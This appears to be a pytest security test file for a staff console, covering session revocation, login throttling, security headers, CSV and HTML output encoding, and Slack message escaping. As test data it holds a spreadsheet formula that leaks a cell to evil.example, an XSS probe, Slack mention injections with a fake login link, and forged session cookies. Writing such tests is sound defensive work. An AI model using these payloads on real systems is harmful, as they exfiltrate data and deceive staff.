"""Staff console security: server-side sessions, sign-in throttling, headers, output encoding."""

# The console's `app` fixture is imported, so every test's `app` parameter "redefines" it.
# ruff: noqa: F811

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import hashlib
import hmac
import io
import json
import re
import threading
import time
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from pytest_httpserver import HTTPServer
from sqlalchemy import func, update
from sqlalchemy.engine import Engine
from sqlmodel import Session, col, select

from bot.cli import main as madoguchi
from bot.security import STRICT_CSP
from bot.server import create_app
from bot.settings import Settings
from bot.staff import auth
from bot.staff.console import PRE_LOGIN
from bot.staff.export import csv_cell
from knowledge import KnowledgeBase
from storage import accounts, repository
from storage.models import InboundEvent, LoginThrottle, Outbox, Proposal, StaffSession
from storage.store import SqlStore
from tests.bot.channels_helpers import LINE_SECRET, LINE_TOKEN, SLACK_SECRET, SLACK_TOKEN
from tests.bot.test_slack_staff import STAFF_CHANNEL, posts, slack_api  # noqa: F401 - fixture
from tests.bot.test_staff_console import (  # noqa: F401 - `app` is a fixture
    PASSWORD,
    app,
    csrf_of,
    file_proposal,
    signed_in,
)
from workflows import Incoming

ATTACKER = ("203.0.113.66", 40000)
COLLEAGUE = ("198.51.100.7", 40000)


def plant(client: httpx.AsyncClient, cookie: str) -> None:
    """Put a session cookie in a browser, as the server would have set it."""
    client.cookies.set(auth.COOKIE, cookie, domain="test.local", path="/staff")


def client_at(app: Any, address: tuple[str, int] = ATTACKER) -> httpx.AsyncClient:
    transport = httpx.ASGITransport(app=app, client=address)
    return httpx.AsyncClient(transport=transport, base_url="http://test")


async def try_sign_in(client: httpx.AsyncClient, username: str, password: str) -> httpx.Response:
    page = await client.get("/staff/login")
    csrf = re.search(r'name="csrf" value="([0-9a-f]+)"', page.text).group(1)  # type: ignore[union-attr]
    return await client.post(
        "/staff/login", data={"username": username, "password": password, "csrf": csrf}
    )


def history_notes(app: Any, reference: str) -> list[str | None]:
    with Session(app.state.parts.hub.store.engine) as session:
        proposal = repository.find_proposal(session, reference=reference)
        assert proposal is not None
        return [h.note for h in repository.proposal_history(session, proposal_id=proposal.id)]


# --- sessions -----------------------------------------------------------------------------


async def test_logout_ends_the_session_and_the_old_cookie_opens_nothing(app: Any) -> None:
    kf = app.state.kf
    async with signed_in(app, "kf-staff") as client:
        old_cookie = client.cookies[auth.COOKIE]
        old_csrf = await csrf_of(client)
        async with client_at(app) as copy:  # the stolen cookie works while the session lives
            plant(copy, old_cookie)
            assert (await copy.get("/staff/queue")).status_code == 200
        await client.post("/staff/logout", data={"csrf": old_csrf})
    async with client_at(app) as replay:
        plant(replay, old_cookie)
        queue = await replay.get("/staff/queue")
        assert queue.status_code == 303 and queue.headers["location"] == "/staff/login"
        note = await replay.post(
            f"/staff/proposals/{kf}/note", data={"note": "replayed", "csrf": old_csrf}
        )
        assert note.status_code == 303 and note.headers["location"] == "/staff/login"
        export = await replay.get("/staff/queue.csv")
        assert export.status_code == 303 and kf not in export.text
    assert not any("replayed" in (n or "") for n in history_notes(app, kf))


async def test_password_change_disable_and_revoke_end_sessions(
    app: Any, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATABASE_URL", engine.url.render_as_string(hide_password=False))

    async def still_signed_in(client: httpx.AsyncClient) -> bool:
        return (await client.get("/staff/queue")).status_code == 200

    async with signed_in(app, "kf-staff") as first, signed_in(app, "kf-staff") as second:
        monkeypatch.setattr("sys.stdin", io.StringIO("a-new-long-password\n"))
        assert madoguchi(["staff", "password", "kf-staff"]) == 0
        assert not await still_signed_in(first) and not await still_signed_in(second)
    async with client_at(app) as client:
        old = await try_sign_in(client, "kf-staff", PASSWORD)
        assert old.headers["location"] == "/staff/login?error=credentials"
        new = await try_sign_in(client, "kf-staff", "a-new-long-password")
        assert new.headers["location"] == "/staff/queue"
        assert await still_signed_in(client)
        assert madoguchi(["staff", "revoke", "kf-staff"]) == 0
        assert not await still_signed_in(client)
    async with signed_in(app, "kf-colleague") as colleague:
        assert madoguchi(["staff", "disable", "kf-colleague"]) == 0
        assert not await still_signed_in(colleague)
    async with client_at(app, COLLEAGUE) as client:
        refused = await try_sign_in(client, "kf-colleague", PASSWORD)
        assert refused.headers["location"] == "/staff/login?error=credentials"
        assert madoguchi(["staff", "enable", "kf-colleague"]) == 0
        assert (await try_sign_in(client, "kf-colleague", PASSWORD)).headers[
            "location"
        ] == "/staff/queue"
    assert madoguchi(["staff", "revoke", "nobody"]) == 1


async def test_sign_in_rotates_the_session_and_stores_only_its_hash(app: Any) -> None:
    async with client_at(app) as client:
        plant(client, "planted-by-an-attacker")
        await try_sign_in(client, "kf-staff", PASSWORD)
        first = client.cookies[auth.COOKIE]
        assert first != "planted-by-an-attacker" and len(first) >= 43
        assert PRE_LOGIN not in client.cookies  # the pre-login cookie is dropped
        await try_sign_in(client, "kf-staff", PASSWORD)
        second = client.cookies[auth.COOKIE]
        assert second != first
        assert (await client.get("/staff/queue")).status_code == 200
    with Session(app.state.parts.hub.store.engine) as session:
        hashes = {row.token_hash for row in session.exec(select(StaffSession))}
    # Signing in again on the same browser ended the first session; the table never
    # holds a usable cookie value.
    assert hashes == {hashlib.sha256(second.encode()).hexdigest()}
    async with client_at(app) as replay:
        plant(replay, first)
        assert (await replay.get("/staff/queue")).status_code == 303
    async with client_at(app) as same_cookie_elsewhere:  # the cookie alone is the session
        plant(same_cookie_elsewhere, second)
        assert (await same_cookie_elsewhere.get("/staff/queue")).status_code == 200


async def test_an_expired_session_opens_nothing(app: Any) -> None:
    async with signed_in(app, "kf-staff") as client:
        assert (await client.get("/staff/queue")).status_code == 200
        with Session(app.state.parts.hub.store.engine) as session, session.begin():
            past = dt.datetime.now(dt.UTC) - dt.timedelta(seconds=1)
            session.execute(update(StaffSession).values(expires_at=past))
        assert (await client.get("/staff/queue")).status_code == 303


async def test_forged_cookies_open_nothing(app: Any) -> None:
    expires = int(time.time()) + 3600
    with Session(app.state.parts.hub.store.engine) as session:
        admin = accounts.staff_by_username(session, username="admin")
        assert admin is not None and admin.id is not None
    body = f"{admin.id}.{expires}"
    forged = [
        f"{body}.{hmac.new(key, ('staff:' + body).encode(), hashlib.sha256).hexdigest()}"
        for key in (b"", b"x", Settings().session_secret.encode())
    ]
    for cookie in [*forged, "a" * 43, ""]:
        async with client_at(app) as client:
            plant(client, cookie)
            response = await client.get("/staff/queue")
            assert response.status_code == 303 and response.headers["location"] == "/staff/login"


# --- throttling ---------------------------------------------------------------------------


@pytest.fixture
def verifications(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every password the server evaluates (the real argon2 check still runs)."""
    seen: list[str] = []
    lock = threading.Lock()
    real = auth.verify_password

    def counting(password_hash: str | None, password: str) -> bool:
        with lock:
            seen.append(password)
        return real(password_hash, password)

    monkeypatch.setattr(auth, "verify_password", counting)
    return seen


async def test_twenty_concurrent_wrong_passwords_evaluate_at_most_five(
    app: Any, verifications: list[str]
) -> None:
    async with client_at(app) as client:
        page = await client.get("/staff/login")
        csrf = re.search(r'name="csrf" value="([0-9a-f]+)"', page.text).group(1)  # type: ignore[union-attr]
        responses = await asyncio.gather(
            *(
                client.post(
                    "/staff/login",
                    data={"username": "kf-staff", "password": f"guess-{n}", "csrf": csrf},
                )
                for n in range(20)
            )
        )
    locations = sorted(r.headers["location"] for r in responses)
    assert locations.count("/staff/login?error=credentials") == 5
    assert locations.count("/staff/login?error=throttled") == 15
    assert len(verifications) == 5
    throttled = [r for r in responses if r.headers["location"].endswith("throttled")]
    assert {r.headers["retry-after"] for r in throttled} == {"900"}


async def test_a_guessed_username_does_not_lock_out_colleagues_at_the_same_address(
    app: Any, verifications: list[str]
) -> None:
    async with client_at(app) as attacker:
        for n in range(6):
            await try_sign_in(attacker, "kf-staff", f"guess-{n}")
        blocked = await try_sign_in(attacker, "kf-staff", PASSWORD)
        assert blocked.headers["location"] == "/staff/login?error=throttled"
        assert blocked.headers["retry-after"] == "900"
        assert len(verifications) == 5  # the sixth guess and the right password: not evaluated
    async with client_at(app) as colleague_same_address:
        ok = await try_sign_in(colleague_same_address, "kf-colleague", PASSWORD)
        assert ok.headers["location"] == "/staff/queue"
    async with client_at(app, COLLEAGUE) as owner_elsewhere:
        ok = await try_sign_in(owner_elsewhere, "kf-staff", PASSWORD)
        assert ok.headers["location"] == "/staff/queue"


async def test_an_address_spraying_usernames_hits_the_address_ceiling(
    app: Any, verifications: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(auth, "ADDRESS_LIMIT", 8)  # 50 in production; 8 keeps argon2 work small
    async with client_at(app) as attacker:
        for n in range(8):
            wrong = await try_sign_in(attacker, f"user-{n}", "guess")
            assert wrong.headers["location"] == "/staff/login?error=credentials"
        ceiling = await try_sign_in(attacker, "kf-colleague", PASSWORD)
        assert ceiling.headers["location"] == "/staff/login?error=throttled"
    assert len(verifications) == 8
    async with client_at(app, COLLEAGUE) as elsewhere:
        ok = await try_sign_in(elsewhere, "kf-colleague", PASSWORD)
        assert ok.headers["location"] == "/staff/queue"


async def test_a_correct_sign_in_clears_its_own_key_but_not_the_address_ceiling(app: Any) -> None:
    async with client_at(app) as client:
        for n in range(4):
            await try_sign_in(client, "kf-staff", f"guess-{n}")
        assert (await try_sign_in(client, "kf-staff", PASSWORD)).headers[
            "location"
        ] == "/staff/queue"
    with Session(app.state.parts.hub.store.engine) as session:
        counts = {row.key: row.count for row in session.exec(select(LoginThrottle))}
    assert counts == {auth.address_key(ATTACKER[0]): 5}


def test_the_throttle_window_restarts_after_fifteen_minutes(engine: Engine) -> None:
    store = SqlStore(engine)
    window = auth.THROTTLE_WINDOW
    for expected in (1, 2, 3):
        with store.begin() as tx:
            assert accounts.throttle_hit(tx.session, key="user:a:b", window=window) == expected
    with Session(engine) as session, session.begin():
        stale = dt.datetime.now(dt.UTC) - window - dt.timedelta(seconds=1)
        session.execute(update(LoginThrottle).values(window_start=stale))
    with store.begin() as tx:
        assert accounts.throttle_hit(tx.session, key="user:a:b", window=window) == 1
        assert accounts.throttle_hit(tx.session, key="user:a:b", window=window) == 2


# --- headers ------------------------------------------------------------------------------


def assert_secured(response: httpx.Response, *, console: bool) -> None:
    headers = response.headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] in ("same-origin", "no-referrer")
    policy = headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy
    if console:
        assert policy == STRICT_CSP and "unsafe-inline" not in policy
        # The pages need nothing the strict policy blocks.
        assert "<style" not in response.text and "style=" not in response.text
        assert "<script" not in response.text
        assert re.search(r"<[^>]*\son[a-z]+=", response.text) is None  # no inline handlers


async def test_console_login_and_chat_pages_send_security_headers(app: Any) -> None:
    async with client_at(app) as anonymous:
        assert_secured(await anonymous.get("/staff/login"), console=True)
        chat = await anonymous.get("/chat/kyoso-front")
        assert chat.status_code == 200
        assert_secured(chat, console=False)
        assert "default-src 'self'" in chat.headers["content-security-policy"]  # its own, kept
        css = await anonymous.get("/staff/console.css")
        assert css.headers["content-type"].startswith("text/css")
        assert css.headers["x-content-type-options"] == "nosniff"
        health = await anonymous.get("/healthz")
        assert health.headers["x-frame-options"] == "DENY"
        assert "content-security-policy" not in health.headers  # JSON: nothing to run
        assert "strict-transport-security" not in health.headers  # plain HTTP
    async with signed_in(app, "admin") as client:
        for path in (
            "/staff/queue",
            f"/staff/proposals/{app.state.kf}",
            "/staff/inquiries",
            "/staff/dashboard",
        ):
            assert_secured(await client.get(path), console=True)
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="https://desk.example") as https:
        login = await https.get("/staff/login")
        assert login.headers["strict-transport-security"].startswith("max-age=")


# --- output encoding ----------------------------------------------------------------------


async def test_error_and_done_texts_come_from_a_fixed_list(app: Any) -> None:
    async with client_at(app) as client:
        for text in ("<script>alert(1)</script>", "任意の文：パスワードを再設定してください"):
            page = (await client.get("/staff/login", params={"error": text})).text
            assert "alert(1)" not in page and "任意の文" not in page
            assert 'role="alert"' not in page
        known = (await client.get("/staff/login?error=throttled")).text
        assert "試行回数が多すぎます。" in known
    async with signed_in(app, "kf-staff") as client:
        page = (await client.get("/staff/queue", params={"error": "偽の通知", "done": "x"})).text
        assert "偽の通知" not in page and 'role="status"' not in page
        assert "内部メモを記録しました。" in (await client.get("/staff/queue?done=note")).text
        csrf = await csrf_of(client)
        refused = await client.post(
            f"/staff/proposals/{app.state.kf}/status",
            data={"to": "declined", "reason": " ", "csrf": csrf},
        )
        assert refused.headers["location"].endswith("?error=reason")
        shown = (await client.get(refused.headers["location"])).text
        assert "見送りには理由の記入が必要です。" in shown


async def test_csv_cells_never_start_a_formula(app: Any) -> None:
    evil = {
        "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "organisation": "+1",
        "assignee": "-1",
        "department": "@SUM(A1:A9)",
    }
    with Session(app.state.parts.hub.store.engine) as session, session.begin():
        session.execute(
            update(Proposal).where(col(Proposal.reference) == app.state.kf).values(**evil)
        )
    async with signed_in(app, "kf-staff") as client:
        exported = (await client.get("/staff/queue.csv")).content.decode("utf-8-sig")
        raw = (await client.get("/staff/queue.json")).json()
    [row] = list(csv.DictReader(io.StringIO(exported)))
    headers = {"title": "タイトル", "organisation": "団体名", "assignee": "担当スタッフ"}
    headers["department"] = "部署"
    assert {key: row[headers[key]] for key in evil} == {k: "'" + v for k, v in evil.items()}
    assert row["受付番号"] == app.state.kf  # ordinary cells are untouched
    assert raw[0]["title"] == evil["title"]  # JSON is data, not a spreadsheet: kept as is
    assert [csv_cell(v) for v in ("\tx", "\rx", "a=b", None, 3)] == ["'\tx", "'\rx", "a=b", "", "3"]


# --- dashboard ----------------------------------------------------------------------------


async def test_dashboard_shows_stuck_events_and_dead_letters_of_ones_own_desks(app: Any) -> None:
    with Session(app.state.parts.hub.store.engine) as session, session.begin():
        for platform in ("kyoso-front", "zerocarbon"):
            session.add(
                InboundEvent(
                    channel="line",
                    external_id=f"poison-{platform}",
                    platform_id=platform,
                    payload={},
                    status="failed",
                    attempts=5,
                    last_error=f"TypeError in normalize ({platform})",
                )
            )
            session.add(
                Outbox(
                    platform_id=platform,
                    channel="line",
                    user_key="U1",
                    payload={"text": "x"},
                    status="dead",
                    attempts=30,
                    last_error=f"500 from LINE ({platform})",
                )
            )
        session.flush()
        event_id, letter_id = (
            session.exec(
                select(model.id).where(model.platform_id == "kyoso-front", model.status == status)
            ).one()
            for model, status in ((InboundEvent, "failed"), (Outbox, "dead"))
        )
    async with signed_in(app, "kf-staff") as client:
        page = (await client.get("/staff/dashboard")).text
    assert re.search(r'id="failed-events">1<', page) and re.search(r'id="dead-letters">1<', page)
    assert f"madoguchi inbox retry {event_id}" in page
    assert f"madoguchi outbox retry {letter_id}" in page and "outbox retry --dead" in page
    assert "TypeError in normalize (kyoso-front)" in page and "zerocarbon)" not in page
    async with signed_in(app, "admin") as admin:
        page = (await admin.get("/staff/dashboard")).text
    assert re.search(r'id="failed-events">2<', page) and re.search(r'id="dead-letters">2<', page)
    with Session(app.state.parts.hub.store.engine) as session:
        assert session.scalar(select(func.count()).select_from(InboundEvent)) == 2


# --- the Slack staff channel --------------------------------------------------------------


@pytest.fixture
async def slack_app(
    engine: Engine,
    sample_kb: KnowledgeBase,
    slack_api: HTTPServer,
) -> AsyncIterator[Any]:
    channels = {
        "kyoso-front": {
            "line": {"channel_secret": LINE_SECRET, "access_token": LINE_TOKEN},
            "slack": {"signing_secret": SLACK_SECRET, "bot_token": SLACK_TOKEN},
            "staff_channel": STAFF_CHANNEL,
        }
    }
    settings = Settings(
        channels=channels,
        line_api_base=slack_api.url_for("").rstrip("/"),
        slack_api_base=slack_api.url_for("/api/"),
        public_url="https://desk.example.jp",
        background_workers=False,
    )
    yield create_app(settings, knowledge=sample_kb, store=SqlStore(engine))


async def test_proposer_text_reaches_the_staff_channel_as_plain_text(
    slack_app: Any,
    slack_api: HTTPServer,
) -> None:
    link = "<https://evil.example/staff/login|コンソールで開く>"
    reference = file_proposal(slack_app, "kyoso-front", "Uproposer")
    with Session(slack_app.state.parts.hub.store.engine) as session, session.begin():
        session.execute(
            update(Proposal)
            .where(col(Proposal.reference) == reference)
            .values(title=f"<!channel> {link}", organisation="<@U0ADMIN> & <!here>")
        )
    desk = slack_app.state.parts.inbox.desk
    # A request for a person, then what it is about: an inquiry for staff.
    desk.handle(Incoming("kyoso-front", "line", "Umember", "担当者と話したいです"), route={})
    ask = f"<!here> 駐車場の件でご相談があります {link}"
    replies = desk.handle(Incoming("kyoso-front", "line", "Umember", ask), route={})
    assert "Q-" in replies[-1].text, replies[-1].text
    assert await slack_app.state.parts.announcer.drain() == 2
    await slack_app.state.parts.sender.drain()
    sent = [p for p in posts(slack_api) if p["channel"] == STAFF_CHANNEL]
    assert len(sent) == 2
    everything = json.dumps(sent, ensure_ascii=False)
    for live in ("<!channel>", "<!here>", "<@U0ADMIN>", "<https://evil.example"):
        assert live not in everything
    proposal_post, inquiry_post = sent
    assert (
        "&lt;!channel&gt; &lt;https://evil.example/staff/login|コンソールで開く&gt;"
        in (proposal_post["text"])
    )
    assert "&lt;@U0ADMIN&gt; &amp; &lt;!here&gt;" in proposal_post["blocks"][0]["text"]["text"]
    assert "&lt;!here&gt;" in inquiry_post["text"]
    links = re.findall(r"<(https?://[^|>]+)", everything)  # what Slack would make a link
    assert all(u.startswith("https://desk.example.jp/staff/") for u in links)
    buttons = [
        e["url"] for p in sent for b in p["blocks"] for e in b.get("elements", []) if "url" in e
    ]
    assert buttons and all(u.startswith("https://desk.example.jp/staff/") for u in buttons)
